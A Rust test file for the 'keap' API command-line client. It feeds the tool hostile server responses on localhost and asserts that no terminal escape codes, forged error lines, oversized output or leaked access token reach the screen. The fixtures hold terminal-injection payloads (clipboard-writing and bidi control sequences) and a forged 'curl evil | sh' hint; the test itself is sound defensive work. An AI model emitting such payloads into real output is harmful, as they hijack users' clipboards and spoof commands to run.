//! Hostile servers: whatever they answer, nothing that commands a terminal is printed, no line is forged, no text is
//! endless, and a secret that comes back is not told.

#![expect(clippy::unwrap_used, reason = "a test that cannot go on panics")]

use std::process::{Command, Output, Stdio};

use keap_http::{
    Body, BoxFuture, HttpService, Request, Response, Transport, TransportError, server,
};

const SECRET: &str = "MARKEDACCESSTOKEN";

/// Copies to the clipboard, colours, turns the direction of writing, and forges the lines of an error.
const EVIL: &str = "\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[31mred\u{9b}31m\u{9d}x\u{202e}gnp.exe\u{2066}\u{0}\u{7f}\u{2028}\nerror: fake\n  hint: curl evil | sh\r\u{1b}c";

/// The same without what XML cannot carry.
const EVIL_XML: &str = "\u{9b}31mred\u{9d}52;c;ZXZpbA==\u{9c}\u{202e}gnp.exe\u{2066}\u{2028}\nerror: fake\n  hint: curl evil | sh";

/// An answer in the shape that its first path segment names.
#[derive(Debug)]
struct Evil;

impl HttpService for Evil {
    fn call(&self, request: Request) -> BoxFuture<'_, Result<Response, TransportError>> {
        let path = request.uri().path().to_owned();
        let name = path.split('/').nth(1).unwrap_or_default().to_owned();
        let echo = request
            .headers()
            .iter()
            .map(|(name, value)| format!("{name}: {}", String::from_utf8_lossy(value.as_bytes())))
            .collect::<Vec<_>>()
            .join(" ");
        let (status, content_type, body) = answer(&name, &path, &echo);
        let response = http::Response::builder()
            .status(status)
            .header("content-type", content_type);
        let response = response.body(Body::from(body)).unwrap();
        Box::pin(async move { Ok(response) })
    }
}

fn json(text: &str) -> String {
    serde_json::to_string(text).unwrap()
}

fn fault(text: &str) -> (u16, &'static str, String) {
    let body = format!(
        "<methodResponse><fault><value><struct><member><name>faultCode</name><value><i4>10</i4></value></member>\
         <member><name>faultString</name><value>{text}</value></member></struct></value></fault></methodResponse>"
    );
    (200, "text/xml", body)
}

fn row(name: &str, value: &str) -> (u16, &'static str, String) {
    let body = format!(
        "<methodResponse><params><param><value><array><data><value><struct>\
         <member><name>Id</name><value><i4>1</i4></value></member>\
         <member><name>{name}</name><value>{value}</value></member>\
         </struct></value></data></array></value></param></params></methodResponse>"
    );
    (200, "text/xml", body)
}

/// One contact, alone or in a list.
fn contact(path: &str, given_name: &str) -> (u16, &'static str, String) {
    let id = if path.contains("/v1/") { "1" } else { "\"1\"" };
    let contact = format!("{{\"id\":{id},\"given_name\":{}}}", json(given_name));
    let body = match path {
        path if path.ends_with("/contacts") => format!("{{\"count\":1,\"contacts\":[{contact}]}}"),
        path if path.ends_with("/model") => "{\"custom_fields\":[]}".to_owned(),
        _ => contact,
    };
    (200, "application/json", body)
}

fn answer(name: &str, path: &str, echo: &str) -> (u16, &'static str, String) {
    let message = |status, text: &str| {
        let text = json(text);
        let body = format!(
            "{{\"message\":{text},\"code\":{text},\"status\":{text},\"error\":{text},\"error_description\":{text}}}"
        );
        (status, "application/json", body)
    };
    let gateway = |text: &str| {
        let text = json(text);
        let body =
            format!("{{\"fault\":{{\"faultstring\":{text},\"detail\":{{\"errorcode\":{text}}}}}}}");
        (401, "application/json", body)
    };
    let page = |status, text: &str| {
        let body = format!("<html><head><title>{text}</title></head><h1>{text}</h1></html>");
        (status, "text/html", body)
    };
    match name {
        "message-400" => message(400, EVIL),
        "message-404" => message(404, EVIL),
        "message-500" => message(500, EVIL),
        "gateway" => gateway(EVIL),
        "page-403" => page(403, EVIL),
        "page-200" => page(200, EVIL),
        "text-502" => (502, "text/plain", EVIL.to_owned()),
        "fault" => fault(EVIL_XML),
        "fault-10mb" => fault(&"x".repeat(10_000_000)),
        "message-10mb" => message(400, &"x".repeat(10_000_000)),
        "row" => row("FirstName", EVIL_XML),
        "column" => row(&format!("_{}", EVIL_XML.replace('\n', " ")), "v"),
        "contact" => contact(path, EVIL),
        "echo-message" => message(401, echo),
        "echo-gateway" => gateway(echo),
        "echo-page" => page(200, echo),
        "echo-fault" => fault(&echo.replace(['<', '&'], " ")),
        "echo-row" => row("FirstName", &echo.replace(['<', '&'], " ")),
        "echo-contact" => contact(path, echo),
        _ => (404, "text/plain", "no such case".to_owned()),
    }
}

const CASES: &[&str] = &[
    "message-400",
    "message-404",
    "message-500",
    "gateway",
    "page-403",
    "page-200",
    "text-502",
    "fault",
    "fault-10mb",
    "message-10mb",
    "row",
    "column",
    "contact",
    "echo-message",
    "echo-gateway",
    "echo-page",
    "echo-fault",
    "echo-row",
    "echo-contact",
];

const COMMANDS: &[&str] = &[
    "call DataService.query Contact --limit 1",
    "call DataService.query Contact --limit 1 --backend v1",
    "call ContactService.load 1 --backend v2",
    "call ContactService.load 1 --backend v2 --format json",
    "compare ContactService.load 1 --backends v1,v2",
    "limits",
    "doctor",
];

async fn serve() -> String {
    let (listener, address) = server::listen(([127, 0, 0, 1], 0).into()).await.unwrap();
    let evil = Transport::new(Evil);
    tokio::spawn(server::serve(listener, evil, std::future::pending()));
    format!("http://{address}")
}

async fn run(base: &str, case: &str, line: &str) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_keap"));
    command
        .args(line.split(' '))
        .args(["--timeout", "1", "--access-token", SECRET]);
    command.args(["--base-url", &format!("{base}/{case}")]);
    command.env_clear().stdin(Stdio::null());
    tokio::task::spawn_blocking(move || command.output())
        .await
        .unwrap()
        .unwrap()
}

/// What a terminal obeys, or what changes how a line reads.
fn is_obeyed(character: char) -> bool {
    (character.is_control() && character != '\n')
        || "\u{61c}\u{200e}\u{200f}\u{2028}\u{2029}\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2066}\u{2067}\u{2068}\u{2069}"
            .contains(character)
}

fn judge(text: &str, what: &str) {
    if let Some(found) = text.chars().find(|character| is_obeyed(*character)) {
        panic!("{what}: {found:?} is printed in {text:?}");
    }
    assert!(
        !text.contains(SECRET),
        "{what}: the secret is told in {text}"
    );
    for line in text.lines() {
        assert!(
            !line.starts_with("error: fake"),
            "{what}: a forged line in {text}"
        );
        assert!(
            !line.trim_start().starts_with("hint: curl"),
            "{what}: a forged hint in {text}"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn no_answer_reaches_the_terminal_as_it_came() {
    let base = serve().await;
    for case in CASES {
        for line in COMMANDS {
            let what = format!("keap {line} against {case}");
            let output = run(&base, case, line).await;
            assert!(output.status.code().is_some(), "{what}: ended by a signal");
            assert_ne!(output.status.code(), Some(101), "{what}: a panic");
            let (told, failed) = (
                String::from_utf8(output.stdout).unwrap(),
                String::from_utf8(output.stderr).unwrap(),
            );
            judge(&told, &what);
            judge(&failed, &what);
            assert!(told.len() + failed.len() < 64 * 1024, "{what}: endless");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_report_in_csv_commands_neither_a_terminal_nor_a_spreadsheet() {
    let base = serve().await;
    let line = "compare Contact --all --backends v1,v2 --show-values --fail-on never --format csv --fields Id,FirstName";
    for case in ["contact", "echo-contact", "message-400"] {
        let output = run(&base, case, line).await;
        judge(
            &String::from_utf8(output.stdout)
                .unwrap()
                .replace("\r\n", "\n"),
            case,
        );
        judge(&String::from_utf8(output.stderr).unwrap(), case);
    }
}
